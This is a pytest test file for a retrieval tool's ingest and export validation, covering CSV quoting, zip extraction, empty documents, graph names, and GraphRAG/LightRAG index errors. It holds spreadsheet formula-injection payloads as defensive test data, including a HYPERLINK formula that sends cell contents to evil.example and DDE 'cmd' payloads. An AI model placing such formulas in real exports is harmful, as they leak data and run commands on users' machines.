"""Bad input seen in the issue-21 trial, each refused with a clear error (item 8).

Formats that belong to a tool are tested on that tool's own output, mutated: the shared GraphRAG index
(`../shared/data/graphrag_operation_dulce`) and the LightRAG working dir written by lightrag-hku
(`tests/data/lightrag/workdir`).
"""

from __future__ import annotations

import io
import json
import shutil
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from retrieval.config import Settings
from retrieval.errors import IngestError, ValidationError
from retrieval.evaluation.labels import LabelStore, make_label
from retrieval.evaluation.querysets import import_queries, parse_query_set
from retrieval.evaluation.trec import export_qrels, parse_qrels, parse_queries, sheet_cell, unsheet_cell
from retrieval.ingest.archive import safe_extract_zip
from retrieval.ingest.build import ingest
from retrieval.ingest.csvgraph import load_csv
from retrieval.ingest.documents import load_documents
from retrieval.ingest.graphrag import load_graphrag
from retrieval.ingest.lightrag import load_lightrag
from retrieval.items import opens_as_formula
from tests.conftest import DULCE, ROOT

pytestmark = pytest.mark.integration
LIGHTRAG = ROOT / "tests" / "data" / "lightrag" / "workdir"
FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"y")', "=cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
            "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''@x"]


def test_spreadsheet_cells_never_open_as_formulas_and_trec_files_stay_exact(tmp_path: Path) -> None:
    # what would open as a formula: OWASP's leading characters; plain numbers and ordinary text do not
    assert all(opens_as_formula(f.lstrip("'")) for f in FORMULAS)
    assert not any(opens_as_formula(t) for t in ("-1", "+2.5", "-3e4", "price - cost", "q1", "chunk:=x", ""))
    # queries.tsv: every would-be formula gets one apostrophe, and reading the file back removes it exactly
    labels = [make_label(text, "chunk:c1", 2, graph_version="v", annotator="a") for text in FORMULAS]
    ids = {lb.query_text: f"q{i}" for i, lb in enumerate(labels)}
    qrels, queries = io.StringIO(), io.StringIO()
    export_qrels(labels, qrels, queries, ids=ids)
    for line in queries.getvalue().splitlines():
        qid, text = line.split("\t", 1)
        assert not opens_as_formula(qid) and not opens_as_formula(text), line
    back = parse_queries(queries.getvalue(), "queries.tsv")
    assert back == {ids[lb.query_text]: lb.query_text for lb in labels}  # reversible, byte for byte
    assert all(unsheet_cell(sheet_cell(t)) == t for t in [*FORMULAS, "'", "''", "'a", "a", "-1"])
    # qrels.txt stays exactly what trec_eval reads: ids as they are, one token each, nothing prefixed
    assert qrels.getvalue().splitlines()[0] == "q0 0 chunk:c1 2"
    # ids that would open as formulas never get into TREC files: refused at import, with their line
    for text, where in (("q1\tok\n=cmd|'/C_calc'!A0\tprice\n", "queries.tsv:2: query_id"),):
        with pytest.raises(IngestError, match=where) as refused:
            parse_queries(text, "queries.tsv")
        assert "would open as a formula" in str(refused.value)
    with pytest.raises(IngestError, match="q.jsonl:1: query_id: .*would open as a formula"):
        parse_query_set('{"id": "@SUM(A1)", "query": "x"}\n', "q.jsonl")
    with pytest.raises(IngestError, match="qrels.txt:1: item_id: .*would open as a formula"):
        parse_qrels("q1 0 =cmd|'/C_calc'!A0 2\n", "qrels.txt", {"q1": "x"})
    store = LabelStore.in_data_dir(tmp_path)
    with pytest.raises(IngestError):
        import_queries(store, "=1+1\tquery\n", "set")
    assert store.rows("SELECT COUNT(*) FROM queries")[0][0] == 0


def test_csv_with_an_unterminated_quote_is_refused_with_its_line(tmp_path: Path) -> None:
    folder = tmp_path / "csv"
    shutil.copytree(ROOT / "tests" / "data" / "csv" / "movies", folder)
    nodes = (folder / "nodes.csv").read_text(encoding="utf-8").splitlines(keepends=True)
    fields = nodes[2].rstrip("\n").split(",")
    fields[-1] = '"' + fields[-1]  # the third line's last field opens a quote that nothing closes
    nodes[2] = ",".join(fields) + "\n"
    (folder / "nodes.csv").write_text("".join(nodes), encoding="utf-8")
    with pytest.raises(IngestError) as refused:
        load_csv(folder)
    assert (Path(refused.value.file).name, refused.value.line, refused.value.field) == ("nodes.csv", 3, "csv")
    assert "an unterminated quote that ran on" in refused.value.reason  # a later quote closed it, mid-field
    unquoted = "".join(nodes).replace('"', "").replace(",Keanu", ',"Keanu', 1)  # line 2 opens the only quote
    (folder / "nodes.csv").write_text(unquoted, encoding="utf-8")
    with pytest.raises(IngestError) as never:  # no later quote at all: the rest of the file was one field
        load_csv(folder)
    assert never.value.line == 2 and "never closed (unterminated quote)" in never.value.reason


def test_zip_with_a_file_and_a_folder_of_one_name_is_refused_before_anything_is_written(tmp_path: Path) -> None:
    for members in ((("a", b"file"), ("a/b", b"member")), (("a/b", b"member"), ("a", b"file"))):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            for name, data in members:
                zf.writestr(name, data)
        dest = tmp_path / f"dest-{members[0][0].replace('/', '_')}"
        dest.mkdir()
        with pytest.raises(ValidationError, match="zip member 'a/b': its folder 'a' is also a file in the archive"):
            safe_extract_zip(buf, dest)
        assert list(dest.iterdir()) == []


def test_documents_holding_no_text_are_refused(tmp_path: Path) -> None:
    folder = tmp_path / "docs"
    folder.mkdir()
    (folder / "blank.txt").write_text("  \n\n\t\n", encoding="utf-8")
    (folder / "empty.md").write_text("", encoding="utf-8")
    with pytest.raises(IngestError, match="none of the 2 documents holds any text: 'blank.txt', 'empty.md'"):
        load_documents(folder)
    settings = Settings.from_env(env={}, data_dir=tmp_path / "kg")
    with pytest.raises(IngestError):
        ingest(settings, folder, fmt="documents", name="empty", progress=False)
    assert not (tmp_path / "kg" / "graphs").exists()  # no 0-book graph is committed


def test_a_graph_name_is_checked_before_the_input_is_read(tmp_path: Path) -> None:
    settings = Settings.from_env(env={}, data_dir=tmp_path / "kg")
    # the input does not even exist: a name error (not "not a directory") proves nothing was read first
    with pytest.raises(ValidationError, match="invalid graph name 'no spaces!'"):
        ingest(settings, tmp_path / "missing", name="no spaces!", progress=False)
    with pytest.raises(ValidationError, match=r"invalid graph name 'xxxx.*… \(100,000 characters\)"):
        ingest(settings, tmp_path / "missing", name="x" * 100_000, progress=False)


def _dulce_copy(dst: Path) -> Path:
    if not DULCE.is_dir():
        pytest.skip(f"shared GraphRAG index not found at {DULCE}")
    shutil.copytree(DULCE, dst)
    return dst


def _set_communities(folder: Path, change: dict[int, dict[str, object]]) -> None:
    path = folder / "communities.parquet"
    rows = pq.read_table(path).to_pylist()
    for row in rows:
        row.update(change.get(row["community"], {}))
    pq.write_table(pa.Table.from_pylist(rows, schema=pq.read_schema(path)), path)


def test_graphrag_community_cycles_and_negative_levels_are_refused_with_their_row(tmp_path: Path) -> None:
    folder = _dulce_copy(tmp_path / "dulce")
    load_graphrag(folder)  # the real index reads
    rows = pq.read_table(folder / "communities.parquet").to_pylist()
    children = {r["community"]: r["children"] for r in rows}
    parent = next(c for c, kids in children.items() if kids)  # a community with children (0 -> 7, 8, 9)
    child = children[parent][0]
    row_of = {r["community"]: i for i, r in enumerate(rows, start=1)}
    _set_communities(folder, {parent: {"parent": child}})  # 0's parent is 7, 7's parent is 0
    with pytest.raises(IngestError) as cycle:
        load_graphrag(folder)
    assert Path(cycle.value.file).name == "communities.parquet" and cycle.value.field == "parent"
    assert cycle.value.line in (row_of[parent], row_of[child])
    assert f"community parents form a cycle: {cycle.value.reason.split(': ', 1)[1]}" == cycle.value.reason
    assert {str(parent), str(child)} <= set(cycle.value.reason.split(": ", 1)[1].split(" -> "))
    _set_communities(folder, {parent: {"parent": -1}, child: {"parent": child}})  # its own parent
    with pytest.raises(IngestError, match=f"cycle: {child} -> {child}"):
        load_graphrag(folder)
    _set_communities(folder, {child: {"parent": parent, "level": -1}})
    with pytest.raises(IngestError) as level:
        load_graphrag(folder)
    assert (level.value.line, level.value.field) == (row_of[child], "level")
    assert "a community level is a whole number from 0, got -1" in level.value.reason


def _key_line(path: Path, key: str) -> int:
    text = path.read_text(encoding="utf-8")
    return text[: text.index(json.dumps(key))].count("\n") + 1


@pytest.mark.parametrize("layout", [{"indent": 4}, {"indent": "\t"}, {"indent": None, "separators": (",", ":")}])
def test_lightrag_errors_name_the_real_line_of_the_key(tmp_path: Path, layout: dict[str, object]) -> None:
    """A 50 MB chunk, and a bad record after it, in the layouts json.dump writes: the line is the key's own."""
    folder = tmp_path / "workdir"
    shutil.copytree(LIGHTRAG, folder)
    chunks_file = folder / "kv_store_text_chunks.json"
    records = json.loads(chunks_file.read_text(encoding="utf-8"))
    keys = list(records)
    records[keys[0]]["content"] = "word " * (10 * 1024 * 1024)  # 50 MB of text in the first chunk
    records[keys[2]]["chunk_order_index"] = "not a number"
    chunks_file.write_text(json.dumps(records, ensure_ascii=False, **layout), encoding="utf-8")  # type: ignore[arg-type]
    with pytest.raises(IngestError) as refused:
        load_lightrag(folder)
    assert refused.value.field == "content" and refused.value.line == _key_line(chunks_file, keys[0]) >= 1
    assert len(str(refused.value)) < 400  # the 50 MB value is not echoed
    records[keys[0]]["content"] = "short"
    chunks_file.write_text(json.dumps(records, ensure_ascii=False, **layout), encoding="utf-8")  # type: ignore[arg-type]
    with pytest.raises(IngestError) as bad:
        load_lightrag(folder)
    assert (bad.value.field, bad.value.line) == ("chunk_order_index", _key_line(chunks_file, keys[2]))
